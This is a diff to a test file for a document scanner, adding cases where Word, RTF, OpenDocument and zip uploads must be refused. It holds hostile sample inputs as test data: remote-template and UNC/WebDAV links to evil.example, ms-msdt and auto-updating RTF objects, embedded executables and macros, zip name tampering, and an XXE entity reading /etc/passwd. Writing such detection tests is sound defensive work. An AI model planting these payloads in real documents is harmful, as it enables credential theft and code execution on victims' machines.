@@ -111,6 +111,29 @@ def test_content_that_is_not_what_its_name_says_is_refused(name: str, head: byte
         ("letter.docx", office("docx", relations("attachedTemplate", "https://evil.example/t.dotm")), Refusal.REMOTE),
         ("letter.docx", office("docx", relations("oleObject", " HTTP://evil.example/x")), Refusal.REMOTE),
         ("letter.docx", office("docx", relations("frame", "ms-msdt:/id x")), Refusal.REMOTE),
+        *(
+            ("letter.docx", office("docx", relations(kind, target)), Refusal.REMOTE)
+            for kind in ("attachedTemplate", "image", "video", "oleObject")
+            for target in (
+                r"\\evil.example\share\t.dotm",
+                r"\\evil@SSL\DavWWWRoot\t.dotm",
+                "//evil.example/t.dotm",
+                "file://evil.example/share/t.dotm",
+                r"file:///\\evil.example\share\t.dotm",
+                "FILE:////evil.example/t.dotm",
+            )
+        ),
+        ("letter.docx", office("docx", relations("aFChunk", "https://evil.example/a.html")), Refusal.REMOTE),
+        ("letter.docx", office("docx", ("word/embeddings/sums.xlsm", OLE)), Refusal.MACROS),
+        ("letter.docx", office("docx", ("word/embeddings/a.exe", b"MZ")), Refusal.PROGRAM),
+        ("letter.odt", samples.open_document(("Pictures/a.scr", b"MZ")), Refusal.PROGRAM),
+        ("notes.rtf", rb"{\rtf1 {\*\template https://evil.example/t.dotm}hi}", Refusal.REMOTE),
+        ("notes.rtf", rb"{\rtf1 {\*\template \\\\evil.example\\t.dotm}hi}", Refusal.REMOTE),
+        ("notes.rtf", rb"{\rtf1 {\*\template file://evil.example/t.dotm}hi}", Refusal.REMOTE),
+        ("notes.rtf", b"{\\rtf1 " + b"x" * (1 << 20) + rb"{\object\objautlink\objupdate}}", Refusal.REMOTE),
+        ("papers.zip", zipped([("sums.xll", b"x")]), Refusal.PROGRAM),
+        ("papers.zip", zipped([("a.txt", b"x")]).replace(b"a.txt", b"a.exe", 1), Refusal.DAMAGED),
+        ("papers.zip", zipped([("a.exe", b"x")]) + zipped([("a.txt", b"x")]), Refusal.DAMAGED),
         (
             "letter.docx",
             office("docx", ("word/_rels/a.rels", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')),
@@ -253,11 +276,25 @@ def test_a_name_with_a_nul_inside_an_archive_is_refused(look: Look) -> None:
     [
         relations("hyperlink", "https://court.example/"),
         relations("attachedTemplate", "file:///C:/Users/leo/Normal.dotm"),
+        relations("attachedTemplate", r"file:///C:\Users\leo\Normal.dotm"),
+        relations("hyperlink", r"\\court\share\rules.pdf"),
         relations("image", "https://court.example/seal.png"),
     ],
 )
 def test_links_and_house_templates_in_a_letter_are_no_reason_to_refuse_it(look: Look, part: tuple[str, str]) -> None:
     assert look("letter.docx", office("docx", part)) == Findings()
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        rb"{\*\template C:\\Users\\leo\\Normal.dotm}",
+        rb"{\*\template file:///C:/Normal.dotm}",
+        rb"https://court.example",
+    ],
+)
+def test_a_formatted_text_with_a_template_of_its_own_drive_passes(look: Look, words: bytes) -> None:
+    assert look("notes.rtf", rb"{\rtf1\ansi " + words + b" hello}") == Findings()
 
 
 @pytest.mark.parametrize(
